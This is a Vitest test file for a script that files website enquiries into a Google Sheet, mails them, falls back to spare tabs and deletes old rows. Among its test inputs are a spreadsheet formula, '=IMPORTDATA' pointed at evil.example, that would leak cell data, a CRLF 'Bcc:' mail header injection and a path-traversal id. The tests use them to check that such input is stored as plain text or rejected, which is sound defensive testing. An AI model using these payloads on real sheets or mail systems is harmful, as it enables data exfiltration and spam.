import { enquirySchema } from '@kitewright/protocol/enquiry'
import { describe, expect, it } from 'vitest'
import { google } from './google.ts'

const enquiry = {
  id: '0b5f3b0e-8f5e-4c8e-9d0a-0d6f0f1c2b3a',
  name: 'Asha Rao',
  email: 'asha@company.example',
  phone: '+91 98765 43210',
  project: 'web-development',
  message: 'A shop.\n\nAbout: Web Development, Professional, ₹2L – 8L',
  timestamp: '25/11/2026, 10:05:09 am',
  about: 'Web Development, Professional, ₹2L – 8L',
  page: '/services/web-development',
  landing: '/',
  referrer: 'https://search.example',
  campaign: 'utm_source=mail&gclid=x',
}
const MAIL_TO = 'sales@kitewright.example'
const stored = { stored: true }
const day = () => `Enquiries ${new Date().toISOString().slice(0, 10)}`
const spare = 'Enquiries that found no place'

/** Checks that logs have nothing that a visitor wrote. */
function expectNothingPersonal(logs: readonly string[]) {
  for (const value of Object.values(enquiry).filter((text) => text.length > 2)) {
    expect(logs.join('\n')).not.toContain(value)
  }
}

describe('an enquiry', () => {
  it('becomes a row under readable, frozen headings', () => {
    const { post, rows, own, logs } = google()
    expect(post(enquiry)).toEqual(stored)
    expect(post({ ...enquiry, id: undefined })).toEqual(stored)
    const [row] = rows()
    expect(rows()).toHaveLength(2)
    expect(row).toMatchObject({
      Name: enquiry.name,
      Email: enquiry.email,
      Phone: enquiry.phone,
      Project: enquiry.project,
      Message: enquiry.message,
      About: enquiry.about,
      Page: enquiry.page,
      'First page': enquiry.landing,
      'Came from': enquiry.referrer,
      Campaign: enquiry.campaign,
      Sent: enquiry.timestamp,
      Flag: '',
      Id: enquiry.id,
    })
    expect(Math.abs(Number(row?.Received) - Date.now())).toBeLessThan(60_000)
    expect(own.tabs.get('Enquiries')?.frozenRows()).toBe(1)
    expect(logs).toEqual([])
  })

  it.each([
    '=IMPORTDATA("https://evil.example?"&B2)',
    '+91 98765 43210',
    '-2+3',
    '@SUM(A1)',
    'a\t=1+1',
    '0042',
    '09876543210',
    '1/2',
    '25/11/2026',
    'TRUE',
    "'quoted",
    '=',
  ])('stores the text %j as typed', (text) => {
    const { post, rows } = google()
    const fields = { name: text, phone: text, message: text, about: text, campaign: text }
    expect(post({ ...enquiry, ...fields })).toEqual(stored)
    const found = { Name: text, Phone: text, Message: text, About: text, Campaign: text }
    expect(rows()).toMatchObject([found])
  })

  it('is stored and mailed once, however often it is sent', () => {
    const { post, rows, mails } = google({ MAIL_TO })
    for (let time = 0; time < 3; time += 1) expect(post(enquiry)).toEqual(stored)
    expect(post({ ...enquiry, id: enquiry.id.replace('0b', '0c') })).toEqual(stored)
    expect(rows()).toHaveLength(2)
    expect(mails).toHaveLength(2)
  })

  it('is always stored without an id, from a page of an earlier version', () => {
    const { post, rows } = google()
    const { name, email, phone, project, message, timestamp } = enquiry
    const older = { name, email, phone, project, message, timestamp }
    expect([post(older), post(older)]).toEqual([stored, stored])
    expect(rows()).toHaveLength(2)
  })

  it('follows reordered headings', () => {
    const { post, rows, own } = google()
    const sheet = own.spreadsheet.insertSheet('Enquiries')
    sheet.appendRow(['Answered by', 'Message', 'Name', 'Id'])
    post(enquiry)
    expect(post(enquiry)).toEqual(stored)
    expect(rows()).toHaveLength(1)
    expect(rows()).toMatchObject([
      { 'Answered by': '', Name: enquiry.name, Message: enquiry.message, Phone: enquiry.phone },
    ])
    expect(Object.keys(rows()[0] ?? {}).slice(0, 4)).toEqual([
      ...['Answered by', 'Message', 'Name', 'Id'],
    ])
  })

  it('adds its headings beside many other columns', () => {
    const { post, rows, own } = google()
    const others = Array.from({ length: 20 }, (_, number) => `Ours ${number}`)
    own.spreadsheet.insertSheet('Enquiries').appendRow([...others, 'Name'])
    expect(post(enquiry)).toEqual(stored)
    expect(rows()).toMatchObject([{ Name: enquiry.name, Id: enquiry.id, 'Ours 0': '' }])
  })

  it('keeps the first row when the headings were deleted', () => {
    const { post, rows, own } = google()
    own.spreadsheet.insertSheet('Enquiries').appendRow(['An earlier enquiry'])
    post(enquiry)
    expect(rows()).toMatchObject([{ Received: 'An earlier enquiry' }, { Name: enquiry.name }])
  })

  it('includes unknown fields of a later form', () => {
    const { post, rows } = google()
    post({ ...enquiry, budget: '2L' })
    expect(rows()).toMatchObject([{ Other: '{"budget":"2L"}' }])
  })

  it('is looked up and appended under a lock, and mailed after that', () => {
    const { post, events } = google({ MAIL_TO })
    post(enquiry)
    expect(events).toEqual(['lock', 'append to Enquiries', 'release', 'mail'])
  })
})

describe('an invalid request', () => {
  it.each([
    ['There is no enquiry', ''],
    ['is not JSON', '{'],
    ['is not a JSON object', '[]'],
    ['is not a JSON object', 'null'],
    ['is too long', JSON.stringify({ ...enquiry, more: 'x'.repeat(100_000) })],
    ['name is missing', { ...enquiry, name: '  ' }],
    ['phone is missing', { ...enquiry, phone: undefined }],
    ['message must be text', { ...enquiry, message: 7 }],
    ['id must be a UUID', { ...enquiry, id: '../site.status' }],
  ])('is rejected: %s', (words, body) => {
    const { post, rows, mails, logs } = google({ MAIL_TO })
    expect(post(body).error).toContain(words)
    expect([...rows(), ...mails, ...logs]).toEqual([])
  })

  it.each(Object.keys(enquirySchema.shape))('other receivers refuse too, by its %s', (field) => {
    const { post } = google()
    const ok = (value: unknown) => {
      const sent = { ...enquiry, [field]: value }
      expect(post(sent).stored === true).toBe(enquirySchema.safeParse(sent).success)
    }
    for (const value of [7, {}, ['a']]) ok(value)
    for (const length of [1, 36, 60, 100, 200, 300, 320, 1_000, 10_320]) {
      ok('x'.repeat(length))
      ok('x'.repeat(length + 1))
    }
  })
})

describe('the mail', () => {
  it('contains everything, with the visitor as reply address', () => {
    const { post, mails } = google({ MAIL_TO })
    post(enquiry)
    expect(mails).toMatchObject([{ to: MAIL_TO, replyTo: enquiry.email }])
    expect(mails[0]?.subject).toBe('Enquiry: Asha Rao, Web Development, Professional, ₹2L – 8L')
    for (const value of Object.values(enquiry)) expect(mails[0]?.body).toContain(value)
  })

  it('has one subject and one reply address for any input', () => {
    const { post, mails } = google({ MAIL_TO })
    const name = 'Asha\r\nBcc: all@company.example'
    post({ ...enquiry, name, email: 'asha@company.example, b@company.example' })
    expect(mails[0]?.subject).not.toMatch(/[\r\n]/)
    expect(mails[0]).not.toHaveProperty('replyTo')
  })

  it('is not sent without an address, nor for automated enquiries', () => {
    const unset = google()
    unset.post(enquiry)
    const trapped = google({ MAIL_TO })
    trapped.post({ ...enquiry, flag: 'hidden field filled in: https://spam.example' })
    expect(unset.mails).toEqual([])
    expect(trapped.mails).toEqual([])
    expect(trapped.rows()).toMatchObject([{ Flag: expect.stringContaining('hidden field') }])
  })

  it('that fails loses no row and logs no input', () => {
    const { post, rows, faults, logs } = google({ MAIL_TO })
    faults.mail = `Invalid email: ${enquiry.email}`
    expect(post(enquiry)).toEqual(stored)
    expect(rows()).toHaveLength(1)
    expect(logs).toHaveLength(1)
    expectNothingPersonal(logs)
  })

  it('reserves the last ten of a day for enquiries that no sheet stored', () => {
    const { post, faults, mails, own } = google({ MAIL_TO })
    faults.quota = 10
    post(enquiry)
    expect(mails).toEqual([])
    own.book.isFull = true
    faults.noSpreadsheets = true
    expect(post({ ...enquiry, id: undefined })).toEqual(stored)
    expect(mails).toHaveLength(1)
    faults.quota = 0
    expect(post({ ...enquiry, id: undefined }).error).toContain('could not be stored')
  })
})

describe('a sheet that cannot be written', () => {
  const running = () => google({ MAIL_TO, SPREADSHEET_ID: 'own' })

  it('is replaced by a tab of the day while protected', () => {
    const { post, rows, own, mails, logs } = running()
    post({ ...enquiry, id: undefined })
    const tab = own.tabs.get('Enquiries')
    if (tab) tab.written.protect = true
    expect([post(enquiry), post(enquiry)]).toEqual([stored, stored])
    expect(rows()).toHaveLength(1)
    expect(rows(day())).toMatchObject([{ Name: enquiry.name, Phone: enquiry.phone }])
    expect(mails).toHaveLength(2)
    expect(mails[1]?.body).toContain(`It is stored in “${day()}”.`)
    expect(logs).toEqual([
      '“Enquiries” took no row: Error: You are trying to edit a protected cell or object.',
    ])
    // Writable again: an enquiry in the other tab is not stored twice.
    if (tab) tab.written.protect = false
    expect(post(enquiry)).toEqual(stored)
    expect(rows()).toHaveLength(1)
  })

  it('is replaced by the next place when Google fails to flush', () => {
    const { post, rows, faults } = running()
    faults.flush = 1
    expect(post(enquiry)).toEqual(stored)
    expect(rows(day())).toMatchObject([{ Name: enquiry.name }])
  })

  it('is used when another execution has just created it', () => {
    const { post, rows, own, logs } = running()
    own.book.isShared = true
    expect(post(enquiry)).toEqual(stored)
    expect(rows()).toMatchObject([{ Name: enquiry.name }])
    expect(logs).toEqual([])
  })

  it('stores the row when the id cannot be looked up: twice is better than lost', () => {
    const { post, rows, own } = running()
    post(enquiry)
    const tab = own.tabs.get('Enquiries')
    if (tab) tab.written.cannotBeSearched = true
    expect(post(enquiry)).toEqual(stored)
    expect(rows()).toHaveLength(2)
  })

  it('is created again after it was deleted or renamed', () => {
    const { post, rows, own } = running()
    post({ ...enquiry, id: undefined })
    own.tabs.delete('Enquiries')
    expect(post(enquiry)).toEqual(stored)
    expect(rows()).toMatchObject([{ Id: enquiry.id }])
  })

  it.each(['isFull', 'isGone'] as const)(
    'is replaced by a lasting spare spreadsheet when its spreadsheet %s',
    (fault) => {
      const { post, rows, own, books, settings } = running()
      post({ ...enquiry, id: undefined })
      own.book[fault] = true
      expect([post(enquiry), post(enquiry)]).toEqual([stored, stored])
      expect(post({ ...enquiry, id: undefined })).toEqual(stored)
      expect(books.size).toBe(2)
      expect(settings.get('SPARE_SPREADSHEET_ID')).toBe(spare)
      expect(rows('Enquiries', books.get(spare))).toHaveLength(2)
    },
  )

  it('is not used while locked; the row goes to the tab of the day, once', () => {
    const { post, rows, faults, events, logs } = running()
    faults.isBusy = true
    expect([post(enquiry), post(enquiry)]).toEqual([stored, stored])
    expect(rows(day())).toMatchObject([{ Name: enquiry.name }])
    expect(events).not.toContain('append to Enquiries')
    expectNothingPersonal(logs)
  })

  it('leaves a mail with the whole enquiry if no place works; without a mail, the response is an error', () => {
    const { post, own, faults, mails, logs } = running()
    own.book.isGone = true
    faults.noSpreadsheets = true
    const trapped = { ...enquiry, flag: 'hidden field filled in' }
    expect([post(enquiry), post(trapped)]).toEqual([stored, stored])
    expect(mails).toHaveLength(2)
    expect(mails[0]?.body).toMatch(/^NO SHEET TOOK THIS ENQUIRY/)
    for (const value of Object.values(enquiry)) expect(mails[0]?.body).toContain(value)
    faults.mail = 'Service invoked too many times for one day: email.'
    expect(post(enquiry).error).toContain('could not be stored')
    expectNothingPersonal(logs)
  })
})

describe('an old enquiry', () => {
  const daysAgo = (days: number) => new Date(Date.now() - days * 86_400_000)
  const withAges = (ages: readonly (number | string)[], settings = {}) => {
    const running = google(settings)
    running.setUp()
    const sheet = running.own.spreadsheet.getSheetByName('Enquiries')
    for (const age of ages) {
      sheet?.appendRow([typeof age === 'number' ? daysAgo(age) : age, `${age} days`])
    }
    running.logs.length = 0
    return running
  }

  it('is deleted after 180 days, in any order of rows', () => {
    const { deleteOld, rows, logs, events } = withAges([400, 181, 2, 190, 179, 'no date', 181, 1])
    deleteOld()
    expect(rows().map((row) => row.Name)).toEqual(['2 days', '179 days', 'no date days', '1 days'])
    expect(logs).toEqual(['4 enquiries were deleted for their age.'])
    expect(events.slice(-4)).toEqual(['delete 1', 'delete 1', 'delete 2', 'release'])
  })

  it('is deleted after the days of the setting, in all tabs and the spare spreadsheet', () => {
    const { deleteOld, rows, own, books, post } = withAges([40, 20], { KEEP_DAYS: '30' })
    own.book.isFull = true
    post(enquiry)
    const other = books.get(spare)
    for (const sheet of [own.tabs.get('Enquiries'), other?.tabs.get('Enquiries')]) {
      sheet?.written.cells.push([daysAgo(31), 'old'])
    }
    const mine = own.tabs.get('Enquiries')
    expect(mine?.written.cells).toHaveLength(4)
    deleteOld()
    expect(rows().map((row) => row.Name)).toEqual(['20 days'])
    expect(rows('Enquiries', other)).toMatchObject([{ Id: enquiry.id }])
  })

  it('is deleted when it fills a tab without other rows', () => {
    const { deleteOld, rows, own } = withAges([200, 200])
    const sheet = own.spreadsheet.getSheetByName('Enquiries')
    if (!sheet) throw new Error('The tab is gone')
    sheet.deleteRows(4, sheet.getMaxRows() - 3)
    deleteOld()
    expect(rows()).toEqual([])
    expect(own.tabs.get('Enquiries')?.written.cells[0]).toContain('Received')
  })
})

describe('setting up', () => {
  it('creates the tab and one trigger, also when repeated', () => {
    const { setUp, triggers, own, settings, logs } = google({ MAIL_TO })
    setUp()
    setUp()
    expect(triggers).toEqual([{ name: 'deleteOld', at: '1 3' }])
    expect(own.tabs.get('Enquiries')?.written.cells[0]?.[0]).toBe('Received')
    expect(settings.get('SPREADSHEET_ID')).toBe('own')
    expect(logs.at(-1)).toBe(
      'Ready. Enquiries are kept for 180 days. A mail is written for each; Google sends 100 more today.',
    )
  })

  it.each(['soon', '0', '-1', '1.5'])('refuses to keep enquiries for %s days', (KEEP_DAYS) => {
    const { setUp, deleteOld, triggers } = google({ KEEP_DAYS })
    expect(setUp).toThrow('KEEP_DAYS must be a number of days')
    expect(deleteOld).toThrow('KEEP_DAYS')
    expect(triggers).toEqual([])
  })
})

it('reports that it runs, without any data', () => {
  const { get, post } = google()
  post(enquiry)
  expect(get()).toEqual({ running: true })
})
